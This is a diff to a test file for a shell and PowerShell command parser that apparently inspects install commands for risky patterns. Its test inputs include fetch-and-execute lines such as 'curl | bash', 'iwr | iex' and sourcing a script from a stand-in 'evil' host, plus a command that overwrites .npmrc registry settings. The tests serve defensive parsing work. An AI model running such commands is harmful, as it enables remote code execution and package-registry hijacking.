@@ -95,8 +95,8 @@ describe('parseCommandList', () => {
     expect(splitCommandLine("node 'a\nb' x", 'posix')).toEqual([['node', 'a\nb', 'x']])
     expect(splitCommandLine('node \\\n server.js', 'posix')).toEqual([['node', 'server.js']])
     expect(parseCommandList('curl -s x |\n sh', 'posix')).toEqual([
-      { words: ['curl', '-s', 'x'], pipedInto: false, processSubstitutions: [] },
-      { words: ['sh'], pipedInto: true, processSubstitutions: [] }
+      { words: ['curl', '-s', 'x'], pipedInto: false, processSubstitutions: [], redirects: [] },
+      { words: ['sh'], pipedInto: true, processSubstitutions: [], redirects: [] }
     ])
     expect(splitCommandLine('cd x &&\nnode y.js', 'posix')).toEqual([
       ['cd', 'x'],
@@ -116,11 +116,16 @@ describe('parseCommandList', () => {
     expect(
       parseCommandList('curl -s https://x | bash && npx a || npx b |& tee l', 'posix')
     ).toEqual([
-      { words: ['curl', '-s', 'https://x'], pipedInto: false, processSubstitutions: [] },
-      { words: ['bash'], pipedInto: true, processSubstitutions: [] },
-      { words: ['npx', 'a'], pipedInto: false, processSubstitutions: [] },
-      { words: ['npx', 'b'], pipedInto: false, processSubstitutions: [] },
-      { words: ['tee', 'l'], pipedInto: true, processSubstitutions: [] }
+      {
+        words: ['curl', '-s', 'https://x'],
+        pipedInto: false,
+        processSubstitutions: [],
+        redirects: []
+      },
+      { words: ['bash'], pipedInto: true, processSubstitutions: [], redirects: [] },
+      { words: ['npx', 'a'], pipedInto: false, processSubstitutions: [], redirects: [] },
+      { words: ['npx', 'b'], pipedInto: false, processSubstitutions: [], redirects: [] },
+      { words: ['tee', 'l'], pipedInto: true, processSubstitutions: [], redirects: [] }
     ])
     expect(
       parseCommandList('iwr https://x | iex; npx a', 'powershell')?.map((c) => c.pipedInto)
@@ -139,13 +144,36 @@ describe('parseCommandList', () => {
       {
         words: ['source', '<(…)'],
         pipedInto: false,
-        processSubstitutions: ['curl -s https://evil/x.sh']
+        processSubstitutions: ['curl -s https://evil/x.sh'],
+        redirects: []
       },
-      { words: ['npx', '-y', 'good@1.0.0'], pipedInto: false, processSubstitutions: [] }
+      {
+        words: ['npx', '-y', 'good@1.0.0'],
+        pipedInto: false,
+        processSubstitutions: [],
+        redirects: []
+      }
     ])
     expect(parseCommandList('npx good > >(tee log) 2>&1', 'posix')).toEqual([
-      { words: ['npx', 'good', '>(…)'], pipedInto: false, processSubstitutions: ['tee log'] }
+      {
+        words: ['npx', 'good', '>(…)'],
+        pipedInto: false,
+        processSubstitutions: ['tee log'],
+        redirects: []
+      }
     ])
+  })
+
+  it('records the files written by output redirections, not descriptor duplications', () => {
+    expect(
+      parseCommandList('echo registry=x > .npmrc 2>&1; node a.js >> log 2>/dev/null', 'posix')?.map(
+        (c) => c.redirects
+      )
+    ).toEqual([['.npmrc'], ['log', '/dev/null']])
+    expect(
+      parseCommandList('echo x > .npmrc & node a.js 2>&1', 'cmd')?.map((c) => c.redirects)
+    ).toEqual([['.npmrc'], []])
+    expect(parseCommandList('type a.txt < in.txt', 'cmd')?.[0]?.redirects).toEqual([])
   })
 
   it('glues an unquoted command substitution back into one word', () => {
